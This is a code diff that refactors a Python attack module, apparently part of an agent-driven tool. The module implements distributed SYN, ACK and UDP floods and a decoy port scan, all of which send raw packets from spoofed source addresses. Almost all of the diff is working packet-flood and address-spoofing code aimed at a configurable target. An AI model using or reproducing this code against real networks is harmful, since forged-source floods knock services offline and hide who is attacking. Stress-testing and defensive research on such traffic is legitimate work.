@@ -4,6 +4,7 @@ from __future__ import annotations
 import ipaddress
 import random
 import socket
+from typing import Callable
 
 from agent.attacks.common import Options, Pacer, Tally
 from agent.attacks import packets
@@ -19,25 +20,15 @@ def syn_flood(opts: Options) -> dict:
 
 
 def distributed_syn_flood(opts: Options) -> dict:
-    cidr = opts.spoof_cidr or default_spoof_cidr(opts.target)
-    if ipaddress.ip_address(opts.target).version != ipaddress.ip_network(cidr, strict=False).version:
-        raise ValueError(f"--spoof-cidr {cidr} is not the target's address family")
-    sources = spoofed_sources(cidr, opts.sources, opts.seed)
-    if sources[0].version == 6:
-        packets.wait_link_local_ready()
-    tally = _send_syns(opts, [a.packed for a in sources])
+    cidr, sources = _spoofed(opts)
+    tally = _send_syns(opts, sources)
     return tally.report(opts, spoof_cidr=cidr, sources=len(sources))
 
 
 def distributed_ack_flood(opts: Options) -> dict:
     """ACK segments of no flow from many spoofed sources (each draws a reset if let in)."""
-    cidr = opts.spoof_cidr or default_spoof_cidr(opts.target)
-    if ipaddress.ip_address(opts.target).version != ipaddress.ip_network(cidr, strict=False).version:
-        raise ValueError(f"--spoof-cidr {cidr} is not the target's address family")
-    sources = spoofed_sources(cidr, opts.sources, opts.seed)
-    if sources[0].version == 6:
-        packets.wait_link_local_ready()
-    tally = _send_syns(opts, [a.packed for a in sources], packets.ACK_FLAGS)
+    cidr, sources = _spoofed(opts)
+    tally = _send_syns(opts, sources, packets.ACK_FLAGS)
     return tally.report(opts, spoof_cidr=cidr, sources=len(sources))
 
 
@@ -65,19 +56,14 @@ def spoofed_sources(cidr: str, n: int, seed: int) -> list[ipaddress.IPv4Address 
     return [net.network_address + offset + i for i in picks]
 
 
-def _send_syns(opts: Options, sources: list[bytes], flags: int = packets.SYN_FLAGS) -> Tally:
-    builder = SynBuilder(opts.target, opts.port, flags)
-    sums = [word_sum(s) for s in sources]
-    seq0 = random.Random(opts.seed).getrandbits(32)
+def _send_raw(opts: Options, packet_of: Callable[[int], bytes]) -> Tally:
+    """Paced raw IP packets to opts.target: packet_of(i) is the i-th one."""
     dest = (opts.target, 0)
     tally, pacer = Tally(), Pacer(opts.count, opts.duration_s, opts.rate)
     with open_raw(family_of(opts.target)) as sock:
         i = 0
         while (now := pacer.next()) is not None:
-            k = i % len(sources)
-            # Vary the source port (and sequence) so every SYN is a new connection attempt.
-            sport = FIRST_SPORT + i % (65536 - FIRST_SPORT)
-            pkt = builder.syn(sources[k], sums[k], sport, (seq0 + i * 7919) & 0xFFFFFFFF)
+            pkt = packet_of(i)
             tally.mark(now)
             try:
                 sock.sendto(pkt, dest)
@@ -85,6 +71,16 @@ def _send_syns(opts: Options, sources: list[bytes], flags: int = packets.SYN_FLA
                 tally.error(e)
             i += 1
     return tally
+
+
+def _send_syns(opts: Options, sources: list[bytes], flags: int = packets.SYN_FLAGS) -> Tally:
+    builder = SynBuilder(opts.target, opts.port, flags)
+    sums = [word_sum(s) for s in sources]
+    seq0 = random.Random(opts.seed).getrandbits(32)
+    # Vary the source port (and sequence) so every SYN is a new connection attempt.
+    return _send_raw(opts, lambda i: builder.syn(
+        sources[i % len(sources)], sums[i % len(sources)],
+        FIRST_SPORT + i % (65536 - FIRST_SPORT), (seq0 + i * 7919) & 0xFFFFFFFF))
 
 
 def _spoofed(opts: Options) -> tuple[str, list[bytes]]:
@@ -106,19 +102,9 @@ def decoy_scan(opts: Options) -> dict:
     ports = range(int(first), int(last or first) + 1)
     builders = [SynBuilder(opts.target, port) for port in ports]
     sums = [word_sum(s) for s in sources]
-    tally, pacer = Tally(), Pacer(opts.count, opts.duration_s, opts.rate)
-    with open_raw(family_of(opts.target)) as sock:
-        i = 0
-        while (now := pacer.next()) is not None:
-            k = i % len(sources)
-            pkt = builders[i % len(builders)].syn(sources[k], sums[k], FIRST_SPORT + i % 50000,
-                                                  (i * 7919) & 0xFFFFFFFF)
-            tally.mark(now)
-            try:
-                sock.sendto(pkt, (opts.target, 0))
-            except OSError as e:
-                tally.error(e)
-            i += 1
+    tally = _send_raw(opts, lambda i: builders[i % len(builders)].syn(
+        sources[i % len(sources)], sums[i % len(sources)], FIRST_SPORT + i % 50000,
+        (i * 7919) & 0xFFFFFFFF))
     return tally.report(opts, spoof_cidr=cidr, sources=len(sources), ports=opts.ports)
 
 
@@ -126,17 +112,8 @@ def spoofed_udp_flood(opts: Options) -> dict:
     """UDP datagrams to --port from spoofed sources (raw IP packets with checksums)."""
     cidr, sources = _spoofed(opts)
     builder = packets.UdpBuilder(opts.target, opts.port, bytes(opts.size))
-    tally, pacer = Tally(), Pacer(opts.count, opts.duration_s, opts.rate)
-    with open_raw(family_of(opts.target)) as sock:
-        i = 0
-        while (now := pacer.next()) is not None:
-            pkt = builder.datagram(sources[i % len(sources)], FIRST_SPORT + i % 50000)
-            tally.mark(now)
-            try:
-                sock.sendto(pkt, (opts.target, 0))
-            except OSError as e:
-                tally.error(e)
-            i += 1
+    tally = _send_raw(opts, lambda i: builder.datagram(sources[i % len(sources)],
+                                                       FIRST_SPORT + i % 50000))
     return tally.report(opts, spoof_cidr=cidr, sources=len(sources), size=opts.size)
 
 
